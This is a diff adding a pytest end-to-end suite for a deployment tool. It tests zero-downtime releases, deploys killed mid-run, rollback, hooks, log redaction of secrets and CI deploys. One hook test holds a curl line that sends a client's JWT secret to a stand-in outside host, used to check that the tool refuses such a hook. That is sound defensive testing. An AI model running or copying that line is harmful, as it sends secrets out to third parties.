@@ -1,0 +1,272 @@
+"""A client's releases on a real host: changed without a pause, killed, undone, gone back to."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import threading
+from collections.abc import Iterator
+
+import pytest
+
+from tests.e2e.deployed import DIGEST, DOMAIN, FILL, Deployed, eventually, in_database, visit
+from tests.e2e.operator import Operator
+from tests.e2e.visitors import Visitors
+from tests.lab.host import Host
+from tests.lab.lab import Lab
+
+pytestmark = pytest.mark.timeout(1500)
+
+# What stands on the host when a deploy has come so far; NEXT is the stand-in, API the service itself.
+_NEXT, _API = "otobot-acme-vault-api-next", "otobot-acme-vault-api-1"
+_HEALTHY = "docker inspect --format '{{{{.State.Health.Status}}}}' {} 2>/dev/null | grep -qx healthy"
+BOUNDARIES = {
+    "current is switched": '[ "$(readlink /opt/otobot/acme/current)" != "$before" ]',
+    "the stand-in starts": f"docker inspect {_NEXT} >/dev/null 2>&1",
+    "the stand-in answers": _HEALTHY.format(_NEXT),
+    "the service is replaced": f'[ "$(docker inspect --format "{{{{.Id}}}}" {_API} 2>/dev/null)" != "$api" ]',
+    "both answer": f'[ "$(docker inspect --format "{{{{.Id}}}}" {_API} 2>/dev/null)" != "$api" ] && {_HEALTHY.format(_API)}',
+}
+# The run with all that it has started, as an out-of-memory killer would: nothing of it gets to clean up.
+_KILL = """
+before=$(readlink /opt/otobot/acme/current); api=$(docker inspect --format '{{{{.Id}}}}' {api})
+echo watching
+for i in $(seq 6000); do
+  if {condition}; then systemctl kill --signal=KILL 'otobot-*.scope' && echo killed; exit; fi
+  sleep 0.05
+done
+"""
+
+
+@pytest.fixture(scope="module")
+def deployed(lab: Lab, tmp_path_factory) -> Iterator[Deployed]:
+    """A host with Docker and images, one client with a vault behind nginx, and rows that must not be lost."""
+    host = lab.make("warm")
+    try:
+        operator = Operator(tmp_path_factory.mktemp("operator"))
+        operator.init()
+        operator.add_host("vps-1", host)
+        operator.create("acme", "vps-1", DOMAIN, "postgres", "vault-api", "nginx")
+        in_database(host, FILL)
+        yield Deployed(operator, host, "", {})
+    finally:
+        lab.destroy(host)
+
+
+def settings(deployed: Deployed, **services: dict) -> None:
+    """Edit the manifest by hand, as an operator does."""
+    edit(deployed, settings=services)
+
+
+def edit(deployed: Deployed, **fields: object) -> None:
+    path = deployed.operator.fleet / "clients-config.json"
+    manifest = json.loads(path.read_text())
+    manifest["clients"]["acme"].update(fields)
+    path.write_text(json.dumps(manifest, indent=2) + "\n")
+
+
+def stand_ins(host: Host) -> str:
+    """The one-off containers that are there."""
+    return host.ssh("docker ps --all --quiet --filter label=otobot.stand-in", user="root").stdout.strip()
+
+
+def one_healthy_release(deployed: Deployed) -> dict:
+    """What `releases` says of a host where one release is current, settled and well, and nothing else is left."""
+    found = deployed.operator.data("releases", "acme")
+    assert found["trouble"] == {}
+    assert found["settled"]
+    assert [each["number"] for each in found["releases"] if each["current"]] == [found["current"]]
+    assert stand_ins(deployed.host) == ""
+    parts = deployed.host.ssh("ls -A /opt/otobot/acme /opt/otobot/acme/releases", user="root").stdout
+    assert ".part" not in parts
+    return found
+
+
+def test_a_stateless_service_changes_without_a_refused_request(deployed, record_property):
+    """Through nginx, from outside: nobody is refused while vault-api is replaced; an archive and a trial go with it."""
+    settings(deployed, **{"vault-api": {"log_level": "debug"}})
+    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
+    words = {each["what"]: each["after"] for step in plan["steps"] for each in step["changes"]}
+    assert words["replace vault-api"].startswith("answers all along")
+    assert plan["archive"]
+    with Visitors(deployed.host) as visitors:
+        done = deployed.operator.data("deploy", "acme")["clients"][0]
+    record_property("visits", len(visitors.answers))
+    record_property("slowest_s", visitors.slowest_s())
+    assert visitors.refused() == []
+    assert len(visitors.answers) > 20
+    assert (done["state"], done["release"]) == ("changed", done["before"] + 1)
+    assert done["smoke"][-1] == "erase the user"
+    assert (deployed.operator.fleet / "clients/acme/archives/before-deploy").joinpath(done["archive"]).exists()
+    row = one_healthy_release(deployed)["releases"][-1]
+    assert row["changed"] == ["configuration"]
+    assert row["who"]
+    again = deployed.operator.data("deploy", "acme")["clients"][0]
+    assert (again["state"], again["archive"], again["changed"]) == ("unchanged", None, [])
+
+
+def test_a_deploy_killed_at_any_boundary_is_finished_by_the_next(deployed):
+    """Run and children killed with -9: the same command ends with one healthy release, and nobody was refused."""
+    rows = in_database(deployed.host, DIGEST)
+    with Visitors(deployed.host) as visitors:
+        for number, (name, condition) in enumerate(BOUNDARIES.items()):
+            settings(deployed, **{"vault-api": {"log_level": ("info", "warning")[number % 2]}})
+            killer = subprocess.Popen(
+                [*deployed.host.ssh_argv(user="root"), _KILL.format(api=_API, condition=condition)],
+                stdout=subprocess.PIPE, text=True,
+            )  # fmt: skip
+            with killer:
+                assert killer.stdout.readline() == "watching\n"
+                cut = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
+                assert killer.stdout.read() == "killed\n", name
+            assert cut.returncode == 1, (name, cut.stderr)
+            assert "was ended from outside" in cut.stderr, name
+            deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke")
+            one_healthy_release(deployed)
+    assert visitors.refused() == []
+    assert in_database(deployed.host, DIGEST) == rows
+
+
+def test_a_killed_operator_does_not_stop_a_deploy(deployed):
+    """The command is killed with -9 while the release comes up: the host finishes, and the next call says so."""
+    settings(deployed, **{"vault-api": {"log_level": "error"}})
+    before = deployed.operator.data("releases", "acme")["current"]
+    running = deployed.operator.start("deploy", "acme", "--no-backup")
+    try:
+        eventually(lambda: stand_ins(deployed.host) or running.poll() is not None)
+    finally:
+        running.kill()
+        running.wait()
+    done = deployed.operator.data("deploy", "acme", "--no-backup")["clients"][0]
+    assert one_healthy_release(deployed)["current"] == done["release"] > before
+
+
+def test_a_release_that_never_gets_healthy_is_undone(deployed):
+    """Exit code 5 with the failing container's last words and no secret; nobody was refused, and no row is lost."""
+    before, rows = deployed.operator.data("releases", "acme")["current"], in_database(deployed.host, DIGEST)
+    broken = deployed.operator.fleet / "clients-config.json"
+    good = broken.read_text()
+    # The program refuses its configuration and ends; the manifest's own check lets it through.
+    settings(deployed, **{"vault-api": {"allowed_origins": ["no origin"]}})
+    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
+    with Visitors(deployed.host) as visitors:
+        failed = deployed.operator.run("deploy", "acme", "--json", check=False)
+    assert failed.returncode == 5, failed.stderr
+    error = json.loads(failed.stdout)["error"]
+    assert (error["kind"], error["code"]) == ("TakenBack", 5)
+    assert f"release {before} is back and healthy" in error["message"]
+    assert any("vault-api |" in line for line in error["details"]), error
+    assert not [value for value in deployed.operator.secrets("acme").values() if value in failed.stdout + failed.stderr]
+    assert plan["back_s"] >= 300
+    assert visitors.refused() == []
+    assert one_healthy_release(deployed)["current"] == before
+    assert in_database(deployed.host, DIGEST) == rows
+    broken.write_text(good)
+
+
+def test_a_database_that_does_not_start_is_undone_with_its_rows(deployed):
+    """A setting that PostgreSQL refuses: it is away for a moment, then back with every row."""
+    before, rows = deployed.operator.data("releases", "acme")["current"], in_database(deployed.host, DIGEST)
+    path = deployed.operator.fleet / "clients-config.json"
+    good = path.read_text()
+    settings(deployed, postgres={"shared_buffers": "900000GB"})
+    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
+    words = {each["what"]: each["after"] for step in plan["steps"] for each in step["changes"]}
+    assert words["replace postgres"].startswith("away for")
+    assert deployed.operator.run("deploy", "acme", check=False).returncode == 5
+    assert one_healthy_release(deployed)["current"] == before
+    assert in_database(deployed.host, DIGEST) == rows
+    path.write_text(good)
+    eventually(lambda: visit(deployed.host, "/health")[0] == 200)
+
+
+def test_rollback_and_the_way_forward_again(deployed):
+    """By default to the release before, without a refused request; it says what it does not undo, and refuses nonsense."""
+    before = deployed.operator.data("releases", "acme")
+    numbers = [each["number"] for each in before["releases"]]
+    with Visitors(deployed.host) as visitors:
+        done = deployed.operator.data("rollback", "acme", "--yes")
+    assert visitors.refused() == []
+    assert (done["before"], done["release"]) == (before["current"], numbers[-2])
+    assert any("migrations" in line for line in done["stays"])
+    found = one_healthy_release(deployed)
+    assert found["current"] == numbers[-2]
+    assert [each["number"] for each in found["releases"]] == numbers
+    refused = deployed.operator.run("rollback", "acme", "--to", "999", "--yes", check=False)
+    assert refused.returncode == 2
+    assert "otobotctl releases acme" in refused.stderr
+    assert deployed.operator.run("rollback", "acme", check=False).returncode == 2  # nobody is there to agree
+    forward = deployed.operator.data("deploy", "acme", "--no-backup")["clients"][0]
+    assert forward["release"] == numbers[-1] + 1
+
+
+def test_hooks_run_before_and_after(deployed, tmp_path):
+    """On both machines with the client's name, no secret among their arguments, and a failed one takes the release back."""
+    mark = tmp_path / "mark"
+    here = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT $OTOBOT_ENVIRONMENT $OTOBOTCTL_AGE_KEY" > "$0"', str(mark)]}
+    there = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT" > /root/hook; id -u >> /root/hook'], "where": "host"}
+    hooks = [{"when": "before_deploy", **here}, {"when": "after_deploy", **there}]
+    edit(deployed, settings={"vault-api": {"log_level": "debug"}}, hooks=hooks)
+    done = deployed.operator.data("deploy", "acme", "--no-backup", "--no-smoke")["clients"][0]
+    assert [(each["where"], each["failure"]) for each in done["hooks"]] == [("operator", ""), ("host", "")]
+    assert mark.read_text() == "acme prod \n"
+    assert deployed.host.ssh("cat /root/hook", user="root").stdout == "acme\n0\n"
+    secret = deployed.operator.secrets("acme")["API_JWT_SECRET"]
+    edit(deployed, hooks=[{"when": "before_deploy", "argv": ["curl", f"https://x.example/{secret}"]}])
+    refused = deployed.operator.run("deploy", "acme", check=False)
+    assert (refused.returncode, secret in refused.stderr) == (10, False)
+    back = {"when": "after_deploy", "argv": ["false"], "on_failure": "back"}
+    edit(deployed, settings={"vault-api": {"log_level": "info"}}, hooks=[back])
+    failed = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
+    assert failed.returncode == 5, failed.stderr
+    assert one_healthy_release(deployed)["current"] == done["release"]
+    edit(deployed, settings={"vault-api": {"log_level": "debug"}}, hooks=[])
+
+
+def test_logs_tell_without_secrets(deployed):
+    """Lines by container and time, followed until nobody listens; then nothing is left on the host."""
+    found = deployed.operator.data("logs", "acme", "vault-api", "--tail", "5")
+    assert found["lines"]
+    assert {each["container"] for each in found["lines"]} == {"vault-api-1"}
+    secret = deployed.operator.secrets("acme")["API_JWT_SECRET"]
+    deployed.host.ssh(f"docker exec {_API} sh -c 'echo oops {secret} > /proc/1/fd/1'", user="root")
+    said = deployed.operator.run("logs", "acme", "--since", "5m").stdout
+    assert "oops ***" in said
+    assert secret not in said
+    argv = deployed.operator.argv("logs", "acme", "vault-api", "--follow", "--tail", "0", "--json")
+    follower = subprocess.Popen(
+        argv, env=deployed.operator.environment(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True
+    )
+    with follower:
+        stop = threading.Timer(120, follower.kill)
+        stop.start()
+        with Visitors(deployed.host):
+            line = json.loads(follower.stdout.readline())
+        stop.cancel()
+        follower.kill()
+    assert (line["version"], line["container"]) == (1, "vault-api-1")
+    eventually(lambda: not deployed.host.pids(name="docker-compose"), 60)
+
+
+def test_a_ci_deploys_with_keys_from_its_environment(deployed, tmp_path):
+    """No terminal, no home, no ssh configuration: both keys come as variables, and are in no process list."""
+    key = deployed.host.key.read_text()
+    age = (deployed.operator.home / ".config/otobotctl/identity.txt").read_text()
+    empty = tmp_path / "ssh_config"
+    empty.write_text("")
+    variables = {
+        "PATH": os.environ["PATH"],
+        "HOME": str(tmp_path),
+        "OTOBOTCTL_SSH_CONFIG": str(empty),
+        "OTOBOTCTL_SSH_PERSIST": "0",
+        "OTOBOTCTL_AGE_KEY": age.strip().replace("\n", "\\n"),
+        "OTOBOTCTL_SSH_KEY": key.strip(),
+    }
+    argv = deployed.operator.argv("deploy", "acme", "--yes", "--json")
+    done = subprocess.run(
+        argv, env=variables, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=600, check=False
+    )
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["data"]["clients"][0]["state"] == "unchanged"
+    assert not [path for path in tmp_path.rglob("*") if path.is_file() and b"PRIVATE KEY" in path.read_bytes()]
